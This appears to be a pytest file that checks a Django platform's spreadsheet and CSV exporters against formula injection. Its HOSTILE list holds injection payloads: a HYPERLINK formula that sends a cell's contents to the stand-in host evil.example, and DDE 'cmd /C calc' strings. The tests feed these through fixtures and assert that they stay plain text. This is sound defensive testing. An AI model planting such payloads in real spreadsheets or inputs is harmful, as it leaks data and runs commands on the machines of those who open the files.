"""Text people type never becomes a spreadsheet formula, in any xlsx or csv the platform
writes: every registered spreadsheet exporter is rendered with hostile names and read back."""

import csv
import io
from decimal import Decimal

import pytest

from tests.documents.conftest import make_project
from tests.documents.helpers import xlsx
from tests.factories import UserFactory, make_org, participation
from wuxiao.campaigns.imports import template_workbook
from wuxiao.documents.registry import EXPORTERS, XLSX
from wuxiao.lib.spreadsheets import csv_row, write_cell
from wuxiao.people.models import OrgKind
from wuxiao.projects.states import ProjectState

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_world(campaign, district, alice_committee):
    unit = make_org("=1+1 单位", OrgKind.ENTERPRISE, district, contact_name="@联系人", contact_phone="13877200001")
    part = participation(campaign, unit, young_workers=230)
    part.reporter_name, part.reporter_phone = "=填报人()", "13877200001"
    part.save()
    leader = UserFactory(username="hostile", real_name="+韦", mobile="13877200009")
    for i, text in enumerate(HOSTILE):
        make_project(
            campaign,
            unit,
            leader,
            name=text,
            leader_name=HOSTILE[(i + 1) % len(HOSTILE)],
            category="其他",
            category_other=HOSTILE[(i + 2) % len(HOSTILE)],
            economic_benefit=Decimal("1.00"),
            self_grade="A",
            state=ProjectState.FORWARDED,
        )
    return unit


def spreadsheet_exporters():
    return sorted(identifier for identifier, e in EXPORTERS.items() if e.content_type == XLSX)


def target(identifier, *, campaign, committee, unit):
    """What each spreadsheet exporter exports, as the committee (which sees everything)."""
    return {
        "summary.xlsx": [(committee, {"campaign": campaign.pk}), (unit, {"campaign": campaign.pk})],
        "project_list.xlsx": [(campaign, {"campaign": campaign.pk, "filters": {}})],
        "progress.xlsx": [(campaign, {"campaign": campaign.pk})],
    }[identifier]


def formula_cells(content: bytes) -> list[str]:
    wb = xlsx(content)
    return [
        f"{ws.title}!{cell.coordinate}={cell.value!r}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts(content: bytes) -> set[str]:
    wb = xlsx(content)
    return {cell.value for ws in wb.worksheets for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)}


def test_every_spreadsheet_exporter_is_covered():
    """A new xlsx exporter must be added to `target` above (and so be checked here)."""
    assert spreadsheet_exporters() == ["progress.xlsx", "project_list.xlsx", "summary.xlsx"]


@pytest.mark.parametrize("identifier", spreadsheet_exporters())
def test_hostile_text_stays_text(identifier, hostile_world, campaign, committee, alice_committee):
    exporter = EXPORTERS[identifier]
    for obj, params in target(identifier, campaign=campaign, committee=committee, unit=hostile_world):
        content = exporter.render(obj, user=alice_committee, params=params).content
        assert formula_cells(content) == []
        written = texts(content)
        if identifier != "progress.xlsx":  # the progress table has no project names
            for text in HOSTILE:
                assert text in written or any(text in w for w in written), text
        assert any(w.startswith("=1+1 单位") for w in written)


def test_the_import_template_has_no_formula_cells():
    assert formula_cells(template_workbook()) == []


def test_write_cell_keeps_every_trigger_as_text():
    from openpyxl import Workbook

    ws = Workbook().active
    for row, text in enumerate(HOSTILE, start=1):
        cell = write_cell(ws, row, 1, text)
        assert (cell.data_type, cell.value) == ("s", text)
    assert write_cell(ws, 10, 1, 12.5).data_type == "n"


def test_csv_fields_are_escaped():
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([*HOSTILE, "普通项目", 3]))
    fields = next(csv.reader(io.StringIO(out.getvalue())))
    assert fields[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert fields[len(HOSTILE) :] == ["普通项目", "3"]
